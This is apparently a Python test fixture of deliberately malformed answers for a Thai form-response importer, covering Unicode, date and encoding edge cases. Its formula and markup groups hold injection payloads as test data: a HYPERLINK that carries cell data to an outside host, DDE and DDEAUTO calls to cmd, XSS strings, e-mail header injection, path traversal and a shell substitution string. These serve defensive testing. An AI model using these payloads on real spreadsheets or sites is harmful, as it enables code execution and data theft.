"""Answers as nobody should write them, each beside the same answers as anybody would.

``plain`` is what the row must count as; where it is None the row must be set aside for ``reason``.
Ids are those of docs/nasty-inputs.md.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from config.campaign import Form

Answers = dict[str, str]

OFFICE = "สำนักงานจังหวัดเชียงราย"
MORNING = "3/4/2566, 9:00:00"
SIGNED: Answers = {
    "timestamp": MORNING,
    "agency": OFFICE,
    "first_name": "สมมุติ",
    "last_name": "ทดสอบ",
    "position": "นักวิชาการ",
    "staff_type": "ข้าราชการ",
    "confirm": "ยืนยัน",
}
ASSESSED: Answers = {"timestamp": MORNING, "agency": OFFICE, "staff_type": "ข้าราชการ"}
_ALWAYS = {
    "ack": "รับทราบและจะถือปฏิบัติ",
    "likelihood": "๓ บางครั้ง",
    "impact": "๒ สร้างความไม่สะดวกต่อการปฏิบัติงานบ่อยครั้ง",
}


@dataclass(frozen=True)
class Nasty:
    """One row; ``answers`` and ``plain`` by question id, over those of everybody."""

    id: str
    answers: Answers
    plain: Answers | None = None
    reason: str = ""
    form: str = "signoff"


def headings(form: Form) -> list[str]:
    """Return the header row of the form's own download."""
    return [question.header for question in form.questions if question.id != "full_name"]


def cells(form: Form, answers: Answers) -> list[str]:
    """Return a row under the form's headings; notices are acknowledged, kinds assessed."""
    usual = SIGNED if form.id == "signoff" else ASSESSED
    said = usual | answers
    return [said.get(q.id, _always(q.id)) for q in form.questions if q.id != "full_name"]


def _always(question: str) -> str:
    return next((text for part, text in _ALWAYS.items() if part in question.split(".")), "")


def same(name: str, nasty: Answers, plain: Answers) -> Nasty:
    """Return a row that must count as the plain one does."""
    return Nasty(name, nasty, plain)


def aside(name: str, reason: str, form: str = "signoff", **answers: str) -> Nasty:
    """Return a row that must be set aside."""
    return Nasty(name, answers, reason=reason, form=form)


def named(name: str, nasty: str, plain: str) -> Nasty:
    """Return a first name that must be the plain one."""
    return same(name, {"first_name": nasty}, {"first_name": plain})


def sent(name: str, first_name: str, nasty: str, plain: str) -> Nasty:
    """Return a time that must be the plain one."""
    return same(
        name,
        {"first_name": first_name, "timestamp": nasty},
        {"first_name": first_name, "timestamp": plain},
    )


def held(name: str, first_name: str, position: str) -> Nasty:
    """Return a text that nobody interprets: it must count as any other does."""
    return same(
        name,
        {"first_name": first_name, "position": position},
        {"first_name": first_name, "position": "ครู"},
    )


def told(name: str, text: str, plain: str) -> Nasty:
    """Return a free text of a self-assessment: it must change no figure."""
    return Nasty(name, {"events": text}, {"events": plain}, form="coi")


TEXTS = (
    named("T1 zero-width spaces", "\u200bสมมุติกอ\u200b", "สมมุติกอ"),
    named("T2 no-break spaces", "\xa0สมมุติขอ\xa0", "สมมุติขอ"),
    named("T3 a mark within a cell", "\ufeffสมมุติคอ", "สมมุติคอ"),
    named("T4 SARA AM in two pieces", "ก\u0e4d\u0e32นันสมมุติ", "กำนันสมมุติ"),
    named("T6 a tone mark twice", "น\u0e49\u0e49ำฝนสมมุติ", "น้ำฝนสมมุติ"),
    named("T7 two SARA E", "เเม่นสมมุติ", "แม่นสมมุติ"),
    sent("T9 Thai digits", "สมมุติงอ", "๓/๔/๒๕๖๖, ๐๙:๐๐:๐๐", MORNING),
    aside("T10 a superscript in a date", "bad_time", timestamp="²/4/2566"),
    aside(
        "T10 a circled digit for a score", "unknown_option", "coi", **{"coi.benefits.impact": "①"}
    ),
    same(
        "T11 an e-mail in full-width letters",
        {"first_name": "สมมุติจอ", "email": "ＡＢＣ＠example.com"},
        {"first_name": "สมมุติจอ", "email": "abc@example.com"},
    ),
    named("T12 a rank before the name", "ว่าที่ ร.ต.หญิง สมมุติฉอ", "สมมุติฉอ"),
    named("T12 titles upon titles", "พ.ต.อ. ดร. สมมุติชอ", "สมมุติชอ"),
    aside("T13 a title alone", "no_name", first_name="น.ส. "),
    same(
        "T15 two spaces in one cell",
        {"first_name": "สมมุติซอ  ทดสอบ", "last_name": ""},
        {"first_name": "สมมุติซอ", "last_name": "ทดสอบ"},
    ),
    named("T15 a tab and a line end", "\tสมมุติฌอ\n", "สมมุติฌอ"),
    aside("T16 UTF-8 shown as Latin-1", "text_lost", first_name="à¸ªà¸¡à¸¡"),
    aside("T17 CP874 shown as Latin-1", "text_lost", first_name="ÊÁªÒÂ"),
    aside("T19 question marks", "text_lost", first_name="????"),
    aside("T19 replacement characters", "text_lost", first_name="\ufffd\ufffd"),
    named("T21 soft hyphen and joiners", "สม\u00adมุติ\u200d\u200c\u2060ญอ", "สมมุติญอ"),
    held("T22 emoji and flags", "สมมุติฎอ", "พยาบาล 👩‍⚕️ 👨‍👩‍👧 🇹🇭"),
    aside("T25 marks with nothing to stand on", "no_name", first_name="\u0e31\u0e48"),
    aside("T26 a name of 86 letters", "unknown_agency", agency="สำนักงาน" + "ก" * 78),
    aside("T27 Lao letters", "foreign_letters", agency="ສຳນັກງານ"),
)
AGENCIES = (
    aside("A1 an agency nobody knows", "unknown_agency", agency="สำนักงานใหม่"),
    same(
        "A2 a known abbreviation",
        {"first_name": "สมมุติฏอ", "agency": "สสจ.เชียงราย"},
        {"first_name": "สมมุติฏอ", "agency": "สำนักงานสาธารณสุขจังหวัดเชียงราย"},
    ),
    aside("A2 an abbreviation nobody knows", "unknown_agency", agency="PAO"),
    *(
        aside(f"A4 {blank!r} for an agency", "no_agency", agency=blank)
        for blank in ("", "-", ".", "ไม่มี", "NA", "None", "null", "nan")
    ),
    aside("A5 another one, unnamed", "unknown_agency", agency="อื่น ๆ (ระบุ)"),
    aside("A6 two in one answer", "unknown_agency", agency=f"{OFFICE}, สสจ.เชียงราย"),
    same(
        "A11 an e-mail in capitals with spaces",
        {"first_name": "สมมุติฐอ", "email": " A@EXAMPLE.COM\u200b"},
        {"first_name": "สมมุติฐอ", "email": "a@example.com"},
    ),
    held("A12 a telephone number stays text", "สมมุติฑอ", "0812345678"),
    held("A12 an id stays text", "สมมุติฒอ", "007"),
)
DATES = (
    sent("D1 the year in BE", "สมมุติณอ", "13/4/2566, 14:03:22", "13/4/2023, 14:03:22"),
    sent("D2 the day first", "สมมุติดอ", "01/04/2566", "2023-04-01"),
    sent("D4 afternoon in Thai", "สมมุติตอ", "13/4/2023 2:03:22 หลังเที่ยง", "13/4/2023, 14:03:22"),
    sent("D5 noon", "สมมุติถอ", "13/4/2023 12:00:00 หลังเที่ยง", "13/4/2023, 12:00:00"),
    aside("D7 29 February of a common year", "bad_time", timestamp="29/2/2566, 9:00:00"),
    aside("D10 a year of two digits", "bad_time", timestamp="13/4/66"),
    sent("D11 a Thai month", "สมมุติทอ", "๑๓ เม.ย. ๒๕๖๖", "13/4/2023"),
    aside("D14 a serial number", "bad_time", timestamp="60"),
    aside("D15 31 April", "bad_time", timestamp="31/4/2566"),
    aside("D15 the day 0", "bad_time", timestamp="0/4/2566"),
    aside("D15 the month 13", "bad_time", timestamp="13/13/2566"),
    aside("D16 a year alone", "bad_time", timestamp="2566"),
    sent("D18 before the form opened", "สมมุติธอ", "27/2/2566, 9:00:00", "27/2/2023, 9:00:00"),
    aside("D19 the year 1", "bad_time", timestamp="1/1/0001"),
    aside("D19 the year 9999", "bad_time", timestamp="9999-12-31"),
    sent("D20 the last moment", "สมมุตินอ", "30/4/2566, 23:59:59.999", "30/4/2023, 23:59:59"),
    sent("D20 the first one after it", "สมมุติบอ", "1/5/2566, 0:00:00", "1/5/2023, 0:00:00"),
    sent("D20 the same in UTC", "สมมุติปอ", "2023-04-30T17:00:00Z", "1/5/2023, 0:00:00"),
    aside("C13 a sum at the foot, no time", "no_time", timestamp="", first_name="รวม"),
    aside("C13 a sum at the foot, its word for a time", "bad_time", timestamp="รวม"),
)
FORMULAS = (
    held("F1 a link that carries cells away", "สมมุติผอ", '=HYPERLINK("http://x/?"&A1,"ดูผล")'),
    held("F2 a sum", "สมมุติฝอ", "=1+1"),
    aside("F2 a sum for a time", "bad_time", timestamp="=1+1"),
    held("F2 a command", "สมมุติพอ", "=cmd|'/c calc'!A1"),
    held("F2 a web service", "สมมุติฟอ", '=WEBSERVICE("http://x")'),
    held("F3 a plus", "สมมุติภอ", "+1+1"),
    held("F3 a minus", "สมมุติมอ", "-2+3"),
    held("F3 an at sign", "สมมุติยอ", "@SUM(1)"),
    held("F5 behind a NUL", "สมมุติรอ", "\0=1+1"),
    held("F7 behind a quotation mark", "สมมุติลอ", '"=1+1'),
    held("F7 behind a separator", "สมมุติวอ", '=1+1";=2+2'),
    held("F7 behind a line end", "สมมุติศอ", "a\r\n=1+1"),
    held("F8 a number below zero", "สมมุติษอ", "-5"),
    held("F8 a telephone number", "สมมุติสอ", "+66 81 234 5678"),
    held("F10 a field of Word", "สมมุติหอ", r"{ DDEAUTO c:\\windows\\system32\\cmd.exe }"),
)
MARKUP = (
    held("H1 a script", "สมมุติฬอ", "<script>alert(1)</script>"),
    held("H2 out of an attribute", "สมมุติออ", '"><img src=x onerror=alert(1)>'),
    held("H3 into an attribute", "สมมุติฮอ", "a onmouseover=alert(1)"),
    held("H4 a link that runs", "สมมุติหนึ่ง", "javascript:alert(1)"),
    held("H6 hidden line ends", "สมมุติสอง", "a\u2028b\u2029c"),
    held("H9 the look of a template", "สมมุติสาม", "{{ campaign }} {% for x in y %}"),
    held("H10 ampersand and less-than", "สมมุติสี่", "R&D <b>x 100<200"),
    held("H14 the look of a format", "สมมุติห้า", "%s %(x)s {0} {}"),
    held("H15 a line end and a header", "สมมุติหก", "สมชาย\r\nBcc: x@example.com"),
    held("X1 a vertical tab", "สมมุติเจ็ด", "a\x0bb"),
    held("X2 a NUL", "สมมุติแปด", "a\x00b"),
    held("X3 control characters", "สมมุติเก้า", "a\x01\x08\x1b\x1f\x7fb"),
    held("X6 other signs of an end", "สมมุติสิบ", "a\u0085b\x0cc"),
    held("X7 space around", "สมมุติสิบเอ็ด", " \n ครู \n "),
    held("X8 what ends a section of XML", "สมมุติสิบสอง", "]]> &#0; &amp;amp;"),
    held("S3 a word of 20,000 letters", "สมมุติสิบสาม", "ก" * 20_000),
    told("S1 the longest cell of a sheet", "ข" * 50_000, "เคยพบ"),
    told("V6 numbers and addresses of people", "1-2345-67890-12-3 โทร 0812345678", "เคยพบเอง"),
    told("V7 another person's name", "นายขมิ้นสมมุติ รับของขวัญ", "เคยเห็น"),
    aside("P1 a path that climbs out", "unknown_agency", agency="../../etc/cron.d/x"),
    aside("P1 a path of Windows", "unknown_agency", agency="C:\\x"),
    aside("P3 a NUL in an agency", "unknown_agency", agency="a\0b"),
    aside("P6 what a shell would run", "unknown_agency", agency="-rf $(id) `id`; rm"),
    aside("C8 too many cells", "too_many_cells"),
    aside("W11 a formula that failed", "formula_failed", position="#REF!"),
)
NASTY_ROWS = TEXTS + AGENCIES + DATES + FORMULAS + MARKUP
